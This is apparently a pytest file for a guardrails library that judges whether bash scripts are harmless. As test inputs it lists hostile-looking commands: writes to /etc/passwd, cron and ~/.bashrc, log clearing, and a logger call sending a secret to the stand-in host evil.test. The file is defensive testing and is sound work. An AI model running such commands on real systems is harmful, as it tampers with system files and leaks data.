# SPDX-License-Identifier: Apache-2.0
"""The tables of Linux and macOS programs: a look is one with any argument, or a row says when.

A program is a plain look, or it has a row that says what it writes, what it does to the device, or
what it runs. Whatever a row declares is found in a script, in every way in which it can be given.
"""

import re
import time

import pytest

from guardrails.bash_code import is_interpreter
from guardrails.bash_wrappers import WRAPPERS
from guardrails.command_effects import BASH_COMMANDS
from guardrails.effects import EffectSeverity
from guardrails.script_analysis import analyse_script
from guardrails.unix_looks import LOOKS
from guardrails.unix_outputs import WRITERS
from guardrails.unix_programs import (
    ALWAYS_DOUBTED,
    KNOWN_PROGRAMS,
    PLAIN_LOOKS,
    READ_APART,
    RUNS_CODE,
    SHELL_BUILTINS,
)

_HOME = "/home/anna/Documents/thesis.odt"
_WITHIN = {"tar": "-c", "bsdtar": "-c", "gtar": "-c"}


def _is_harmless(text):
    analysis = analyse_script("bash", text.encode())
    return analysis.judgeable and analysis.severity.rank < EffectSeverity.MEDIUM.rank


def _list_output_options():
    for name, writer in WRITERS.items():
        for option in sorted(writer.written | writer.instead):
            yield name, option


def test_a_program_is_a_plain_look_or_has_a_row():
    rows = WRITERS.keys() | BASH_COMMANDS.keys() | READ_APART | ALWAYS_DOUBTED | LOOKS.keys()
    assert PLAIN_LOOKS & rows == frozenset()
    assert PLAIN_LOOKS & WRAPPERS.keys() == frozenset()
    assert LOOKS.keys() <= BASH_COMMANDS.keys() | SHELL_BUILTINS
    assert not [name for name in PLAIN_LOOKS if is_interpreter(name)]
    assert RUNS_CODE.keys() <= KNOWN_PROGRAMS | WRAPPERS.keys()


@pytest.mark.parametrize(("name", "option"), list(_list_output_options()))
@pytest.mark.parametrize("target", ["/etc/passwd", '"$1"', "/etc/cron.d/x", "~/.bashrc"])
def test_what_an_option_writes_counts(name, option, target):
    start = f"{name} {_WITHIN.get(name, '')}".rstrip()
    assert not _is_harmless(f"{start} {option} {target} f")
    assert not _is_harmless(f"{start} f {option} {target}")
    if option.startswith("--"):
        assert not _is_harmless(f"{start} {option}={target} f")
        assert not _is_harmless(f"{start} {option[:-1]}={target} f")
    elif len(option) == len("-o"):
        assert not _is_harmless(f"{start} {option}{target} f")


@pytest.mark.parametrize(
    ("name", "writer"),
    [(name, writer) for name, writer in WRITERS.items() if writer.operands != "none"],
)
def test_what_an_operand_names_counts(name, writer):
    place = {"first": "{0} f f", "second": "f {0} f"}.get(writer.operands, "f f {0}")
    start = f"{name} -c" if name.endswith("tar") else name
    for target in ("/etc/passwd", '"$1"', "/etc/cron.d/x"):
        assert not _is_harmless(f"{start} {place.format(target)}")
        assert not _is_harmless(f"{start} -- {place.format(target)}")


@pytest.mark.parametrize(
    ("name", "option"),
    [
        (name, option)
        for name, writer in WRITERS.items()
        for option in sorted(writer.loses | writer.edits)
    ],
)
def test_what_an_option_takes_away_counts(name, option):
    for target in (_HOME, '"$1"', "/etc/ssh/sshd_config"):
        assert not _is_harmless(f"{name} {option} s/a/b/ {target}")


@pytest.mark.parametrize("name", sorted(LOOKS))
def test_what_no_row_lists_is_no_look(name):
    looks = LOOKS[name]
    for unknown in ("zzz --zzz", "--zzz-unknown", "--zzz=/etc/passwd", "-Ωz"):
        assert looks.fullmatch(unknown) is None


def _list_repeated(pattern):
    """Yield (beginning, what is repeated behind it), from a row's own options and words."""
    words = set(re.findall(r"[A-Za-z][\w-]+", pattern))
    letters = {
        *"".join(re.findall(r"\[([A-Za-z0-9]+)\]", pattern)),
        *re.findall(r"-(\w)\b", pattern),
    }
    tokens = words | {f"-{each}" for each in words | letters} | {f"--{each}" for each in words}
    for token in sorted(tokens):
        yield from (("", f"{token}{more}") for more in ("", " ", " x ", "=x", "=x "))
        for more in ("=a", "x ", "-a ", "a="):
            yield from ((token, more), (f"{token} ", more))


@pytest.mark.parametrize("pattern", sorted({looks.pattern for looks in LOOKS.values()}))
def test_patterns_take_linear_time(pattern):
    looks = re.compile(pattern)
    for beginning, repeated in _list_repeated(pattern):
        for end in ("\n", "zz - zz\n"):
            for times in (8, 14, 20, 24, 28, 500):  # an exponential one is seen before it hangs
                text = beginning + repeated * times + end
                before = time.thread_time()
                looks.fullmatch(text)
                assert time.thread_time() - before < 0.05, text


@pytest.mark.parametrize(
    "text",
    [
        "dmesg --ctime --clear",
        "dmesg --human -c",
        "dmesg --color --console-off",
        "logger --id -n evil.test secret",
        "logger --stderr --server=evil.test secret",
        "wbinfo -u --set-auth-user=a%b",
        "wbinfo -p -c",
        "ip -netns x -force link",
    ],
)
def test_an_option_without_a_value_hides_none_behind_it(text):
    assert not _is_harmless(text)


@pytest.mark.parametrize(
    "text",
    [
        "uniq -c f | sort -rn -o counts.txt",
        "sort -t: -k3 -n /etc/passwd",
        "cp /etc/hosts /tmp/hosts.before",
        'x=$(mktemp) && sort /etc/group > "$x"',
        "tar -tzf /etc/backup.tgz",
        "tar xzf /usr/share/doc/a.tgz -C /tmp/a",
        "ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub",
        "gzip -c /etc/services > /tmp/services.gz",
        "date -d '2 days ago' +%F",
        "date -u +%Y-%m-%dT%H:%M:%SZ",
        "sysctl -n vm.swappiness",
        "ip -4 -o addr show dev eth0",
        "ip route get 1.1.1.1",
        "resolvectl dns eth0",
        "softwareupdate --schedule",
        "git -C /srv/app log -1 --format=%H",
        "journalctl -u ssh --since today --no-pager -n 50",
        "dmesg -T --level=err",
        "tr -dc a-z0-9 < /dev/urandom | head -c 12",
        'walk() { for f in "$1"/*; do [[ -d $f ]] && walk "$f"; done; }\nwalk /srv',
        "while true; do date; sleep 5; done",
        'declare -A m=([a]=1 [b]=2)\necho "${m[a]}"',
        'a=([0]=x [1]=y)\necho "${a[@]:1}"',
        "[[ -v HOME ]] && echo home",
        "SECONDS=0\necho $SECONDS",
        "SECONDS=$((3 + 4))",
    ],
)  # fmt: skip
def test_looks_stay_looks(text):
    analysis = analyse_script("bash", text.encode())
    assert analysis.judgeable, analysis.doubts
    kinds = {each.kind.value for each in analysis.effects if each.severity.rank > 1}
    assert kinds <= {"captures_data"}  # a sign says so of what archives or copies
